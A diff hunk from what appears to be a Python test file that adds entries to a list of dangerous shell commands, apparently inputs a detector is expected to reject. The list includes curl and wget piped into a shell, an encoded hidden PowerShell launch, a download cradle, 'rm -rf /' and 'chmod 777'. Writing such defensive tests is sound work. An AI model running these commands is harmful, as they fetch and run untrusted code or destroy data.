@@ -51,6 +51,9 @@ def test_what_only_begins_like_one_is_none(tmp_path: Path, data: bytes) -> None:
     [
         "curl -fsSL http://x.example/i | sudo bash",
         "wget -qO- x.example|sh",
+        "rm -rf / && echo",
+        "rm -fr ~/models",
+        "chmod 777 /tmp/x",
         "bash <(curl x.example)",
         "powershell.exe -nop -w hidden -enc AAAA",
         "IEX (New-Object Net.WebClient)",
